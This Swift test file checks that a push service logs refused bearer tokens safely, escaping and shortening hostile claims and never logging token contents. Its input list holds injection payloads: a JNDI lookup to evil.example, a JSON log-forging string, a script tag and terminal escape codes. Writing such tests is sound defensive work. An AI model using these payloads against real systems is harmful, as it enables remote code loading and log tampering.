import HTTPTransport
import LocalCloud
import LosslessJSON
import Testing
import Timestamps

@Suite("What the log says of a refused token")
struct TokenLogTests {
    /// What a stranger with a Google account of his own could have signed into his token.
    static let hostile = [
        "a\"b\\c\nd\re\u{1B}[2Jf\u{7F}\u{85}\u{2028}g@x", #"x","severity":"ERROR","event":"push.forged"#,
        "${jndi:ldap://evil.example/}", "\u{202E}moc.elgoog", "<script>alert(1)</script>",
        String(repeating: "long", count: 300),
    ]

    @Test(arguments: hostile)
    func `the refused e-mail and audience stand in it escaped, and forge nothing`(text: String) async throws {
        try await onStage { stage async throws in
            for token in [try stage.token(audience: text), try stage.token(email: text)] {
                let answer = try await stage.post([], headers: [("Authorization", "Bearer \(token)")])
                #expect(answer.status == 403)
                #expect(answer.body.isEmpty)
            }
            let lines = stage.log.lines(of: "push.refused")
            #expect(lines.count == 2)
            let isLong = text.utf8.count > 512
            let shortened = isLong ? String(decoding: text.utf8.prefix(512), as: UTF8.self) + "…" : text
            #expect(lines.first?["audience"]?.string == shortened)
            #expect(lines.last?["email"]?.string == shortened)
            #expect(lines.map { $0["severity"]?.string } == ["WARNING", "WARNING"])
            #expect(stage.log.lines(of: "push.forged").isEmpty)
            let controls = stage.log.text.utf8.filter { $0 < 0x20 && $0 != 0x0A || $0 == 0x7F }
            #expect(controls.isEmpty)
        }
    }

    @Test func `neither tokens nor other claims stand in it`() async throws {
        try await onStage { stage async throws in
            let identity = stage.cloud.options.pushIdentity
            let now = TimeSource.system.now()
            var claims = PushTokenClaims(audience: identity.audience, email: identity.email, issuedAt: now)
            claims.subject = "subject-of-the-token"
            claims.overrides = ["other": .string("claim-of-the-token")]
            var tokens: [String] = []
            for change: (inout PushTokenClaims) -> Void in [
                { $0.issuer = "issuer-of-the-token" }, { $0.expiresAt = now.adding(seconds: -3600) },
                { $0.issuedAt = now.adding(seconds: 3000) }, { $0.overrides["email"] = .some(nil) },
                { $0.overrides["exp"] = .string("expiry-of-the-token") }, { $0.audience = "refused-audience" },
                { $0.email = "refused-email" }, { $0.isEmailVerified = false },
            ] {
                var changed = claims
                change(&changed)
                tokens.append(try stage.cloud.keys.mint(changed))
            }
            let good = try stage.cloud.keys.mint(claims)
            tokens += [String(good.dropLast(8)) + "AAAAAAAA", good + "=", good + ".e30", "x" + good]
            for token in tokens {
                let answer = try await stage.post([], headers: [("Authorization", "Bearer \(token)")])
                #expect(answer.status == 401 || answer.status == 403)
            }
            #expect(stage.log.lines(of: "push.refused").count == tokens.count)
            #expect(stage.log.text.contains("refused-audience") && stage.log.text.contains("refused-email"))
            #expect(!stage.log.text.contains("of-the-token"))
            for segment in tokens.flatMap({ $0.split(separator: ".") }) where segment.utf8.count > 8 {
                #expect(!stage.log.text.contains(segment))
            }
        }
    }

    @Test func `several Authorization headers and a token in the other header have reasons of their own`() async throws
    {
        try await onStage { stage async throws in
            let token = "Bearer \(try stage.token())"
            let several = try await stage.post([], headers: [("Authorization", token), ("Authorization", token)])
            #expect(several.status == 401)
            let other = try await stage.post([], headers: [("X-Serverless-Authorization", token)])
            #expect(other.status == 401)
            let reasons = stage.log.lines(of: "push.refused").map { $0["reason"]?.string }
            #expect(reasons == ["several-authorization-headers", "token-in-x-serverless-authorization"])
        }
    }
}
